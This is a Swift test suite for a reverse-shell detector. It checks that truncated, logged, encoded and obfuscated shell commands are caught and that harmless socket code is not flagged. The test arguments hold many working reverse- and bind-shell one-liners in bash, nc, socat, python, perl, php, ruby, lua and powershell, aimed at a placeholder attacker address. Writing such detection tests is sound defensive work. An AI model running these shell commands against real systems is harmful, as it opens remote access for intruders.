import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Commands that a limit cut before they were whole.
@Suite struct CutCodeTests {
  @Test(arguments: [
    "python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100",
    "python3 -c 'import pty;import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.9\", 42",
    "python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.9\",4242));os.du",
    "perl -e use Socket;$i=\"198.51.100.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyna",
    "nc 198.51.100.9 4242 -e /bin/ba", "ncat --ssl 198.51.100.9 4242 -e /bin", "ncat 198.51.100.9 4242 --exec=/bin/b",
    "nc 198.51.100.9 4242 | /bin/ba", "socat TCP:198.51.100.9:4242 EXEC:/bin", "sh >/dev/tcp/198.51.100.9/4242 <&1 2",
    "php -r '$s=stream_socket_client(\"tcp://198.51.100.9:4242\");while($c=fgets($s)){fwrite($s,shell_exec",
  ])
  func isStillSeen(text: String) { #expect(shells(text).first?.kind == .reverseShell) }

  @Test(arguments: [
    "python3 -c 'import socket,subprocess,os;s=socket.socket();print(s.connect_ex((\"db\",5432)))'",
    "python3 -c 'import socket,sys;s=socket.socket();s.settimeout(2);s.connect((\"db",
    "perl -MIO::Socket::INET -e 'exit !IO::Socket::INET->new(\"db:54",
    "import socket\nimport subprocess\ns = socket.socket(",
    "nc 198.51.100.9 4242 -e /usr/bin/date", "nc 198.51.100.9 4242 -w 5 < /bin",
    "socat TCP:198.51.100.9:4242 FILE:/bin",
    "curl -s http://198.51.100.9/x | /bin/ca",
  ])
  func whatGivesNothingAwayStaysQuiet(text: String) { #expect(shells(text).isEmpty) }

  /// What a monitor, XML or memory write behind the command is none of its words.
  @Test(arguments: [
    "Shell spawned (user=root command=bash -c sh >/dev/tcp/198.51.100.9/4242 <&1 2>&1 pid=12 parent=java)",
    "Shell spawned (user=root command=bash -c nc 198.51.100.9 4242|bash pid=12 parent=java container=abc)",
    "<Data Name=\"CommandLine\">bash -c nc 198.51.100.9 4242 | /bin/sh</Data><Data Name=\"CurrentDirectory\">/</Data>",
    "\0\0\u{7F}ELF\0bash\0-c\0cat < /dev/tcp/198.51.100.9/4242 | bash > /dev/tcp/198.51.100.9/4242\0PATH=/bin\0",
    "abc\0\0nc 198.51.100.9 4242 | /bin/sh\0\0\u{10}PWD=/tmp\0",
    "bash \\\n  -i \\\n  >& /dev/tcp/198.51.100.9/4242 \\\n  0>&1",
    "$(which bash) -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "bash -i >& /dev/tcp/198.51.100.9/$((4000+242)) 0>&1", "nc --exec /bin/bash -li 198.51.100.9 4242",
    "IP=$(echo MTk4LjUxLjEwMC45 | base64 -d); bash -i >& /dev/tcp/$IP/4242 0>&1",
    "ruby -rsocket -espawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"198.51.100.9\",4242))",
    "GET /x.php?c=socat%20exec:'bash%20-li',pty,stderr%20tcp:198.51.100.9:4242 HTTP/1.1",
    "GET /x.php?c=bash%3C/dev/tcp/198.51.100.9/4242 HTTP/1.1",
    "so\\cat TCP:198.51.100.9:4242 EXEC:/bin/sh", "ncat 198.51.100.9 4242 --exec=/???/b??h",
    "<p>a=/dev/t; b=cp/198.51.100.9; bash -i &gt;&amp; $a$b/4242 0&gt;&amp;1</p>",
    "COMMAND=/bin/bash -c script -qc /bin/bash /dev/null </dev/tcp/198.51.100.9/4242 >&0 2>&0",
    "sudo: tomcat : COMMAND=/bin/sh -c #!/usr/bin/perl#012use Socket;#012my $i = '198.51.100.9';#012my $p = 4242;#012connect(S, sockaddr_in($p,inet_aton($i)));#012open(STDIN, \">&S\");exec(\"/bin/sh -i\");",
    "zmodload\tzsh/net/tcp;\tztcp\t198.51.100.9\t4242;\tzsh\t<&$REPLY\t>&$REPLY",
    "{\"c\": \"lua -e 'local s=require(\\\"socket\\\"); local t=assert(s.tcp()); t:connect(\\\"198.51.100.9\\\",4242); local r=t:receive();local f=io.popen(r,\\\"r\\\")'\"}",
    "<p>ncat --sh-exec &quot;/bin/sh -i&quot; 198.51.100.9 4242</p>",
  ])
  func whatStandsAroundIsNoPart(text: String) {
    let found = shells(text)
    #expect(found.contains { $0.kind == .reverseShell && $0.host == "198.51.100.9" && $0.port == 4242 })
  }

  /// A browser's way to encode a request leaves brackets and commas: the log's client is not the far end.
  @Test func theClientOfALogIsNotTheFarEnd() {
    for host in ["evil.example", "198.51.100.9"] {
      let text =
        "203.0.113.5 - - [10/Dec/2021:10:00:00 +0000] \"GET /x.php?c=php%20-r%20'$s=fsockopen(%22\(host)%22,4242);exec(%22/bin/sh%20-i%20%3C&3%22);' HTTP/1.1\" 200 12"
      let found = shells(text)
      #expect(found.map(\.host) == [host])
      #expect(found.first?.port == 4242)
    }
  }

  /// Servers, and the port that is theirs.
  @Test(arguments: [
    "perl -MIO -e '$s=new IO::Socket::INET(LocalPort,4242,Reuse,1,Listen)->accept;$~->fdopen($s,w);STDIN->fdopen($s,r);system$_ while<>'",
    "lua -e 'local k=require(\"socket\");local s=assert(k.bind(\"*\",4242));local c=s:accept();local r=c:receive();local f=io.popen(r,\"r\")'",
    "echo 'set s [socket -server h 4242];proc h {c a p} {while 1 {gets $c l; puts $c [eval exec $l];flush $c}};vwait x' | tclsh",
    "powershell -c \"$l=New-Object System.Net.Sockets.TcpListener('0.0.0.0',4242);$l.start();$c=$l.AcceptTcpClient();$s=$c.GetStream();while(($i=$s.Read($b,0,9)) -ne 0){iex ([text.encoding]::ASCII.GetString($b,0,$i))}\"",
    "{\"args\": [\"ncat\", \"-l\", \"4242\", \"-e\", \"/bin/bash\"], \"pid\": 3}", "ncat -l 10.0.0.1 4242 -e /bin/sh",
  ])
  func whoListensIsToldSo(text: String) {
    #expect(shells(text).first?.kind == .bindShell)
    #expect(shells(text).first?.port == 4242)
  }

  /// A name that code assigns from an object is no host, and no language's name stands within another word.
  @Test func namesOfCodeAreNoHosts() {
    let text =
      "python -c 'a=__import__;b=a(S).socket;o=a(\"os\").dup2;s=b();s.connect((h,4242));f=s.fileno;o(f(),0);a(\"subprocess\").call([\"/bin/sh\"])'"
    #expect(shells(text).allSatisfy { $0.host == nil })
    let check =
      "{\"m\": \"{\\\"cmd\\\": \\\"python3 -c 'import socket,subprocess;s=socket.socket();exit(s.connect_ex((h,5432)))'\\\"}\"}"
    #expect(shells(check).isEmpty)
    let server = "sock.listen(1)\n# close the connection properly\nrfd = os.fdopen(r, 'r')"
    #expect(shells(server).isEmpty)
  }
}
